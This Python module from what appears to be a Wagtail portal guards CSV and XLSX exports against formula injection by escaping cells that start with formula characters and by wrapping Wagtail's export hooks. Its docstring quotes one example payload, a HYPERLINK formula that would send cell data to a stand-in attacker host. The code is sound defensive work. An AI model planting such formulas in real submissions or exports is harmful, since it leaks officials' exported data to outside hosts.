"""The one way the portal writes spreadsheet files: formulas are never run.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is what Excel, LibreOffice and WPS run as a formula
when a CSV file is opened: ``=HYPERLINK("http://evil.example/?"&A2, "点击")`` typed into a
complaint would send an official's export to another host. :func:`neutralise` puts an apostrophe
before such text (spreadsheets show it as text, as OWASP recommends); plain numbers such as
``-12.50`` stay numbers. Every CSV and XLSX export goes through :func:`csv_bytes`,
:class:`SafeWriter` or, for Wagtail's admin listings and reports, Wagtail's own export code
with its value hooks wrapped at start-up (:func:`protect_spreadsheet_exports`).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value``, with text a spreadsheet would run as a formula turned into plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`neutralise`."""

    def __init__(self, stream, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(rows: Iterable[Iterable[Any]], **kwargs: Any) -> str:
    buffer = io.StringIO()
    SafeWriter(buffer, **kwargs).writerows(rows)
    return buffer.getvalue()


def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True, **kwargs: Any) -> bytes:
    """UTF-8 CSV; with the byte-order mark Excel needs to read Chinese correctly."""
    return (("\ufeff" if bom else "") + csv_text(rows, **kwargs)).encode("utf-8")


def xlsx_bytes(rows: Iterable[Iterable[Any]], title: str) -> bytes:
    """A one-sheet workbook; text that looks like a formula is stored as text."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = (title or "Sheet1")[:31]
    for row in rows:
        sheet.append([neutralise(cell) for cell in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def protect_spreadsheet_exports() -> None:
    """Make every Wagtail admin export (listings, reports, form submissions, the portal's own and
    Wagtail's) write its cells and headings through :func:`neutralise`.

    Wagtail's ``SpreadsheetExportMixin`` writes CSV cells verbatim (its XLSX writer only stops
    openpyxl from storing formulas). Wrapping its two value hooks here, once, at start-up, covers
    every view built on it, including ones added later.
    """
    if getattr(SpreadsheetExportMixin, "_portal_neutralised", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(preprocess(self, field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise(heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    SpreadsheetExportMixin._portal_neutralised = True
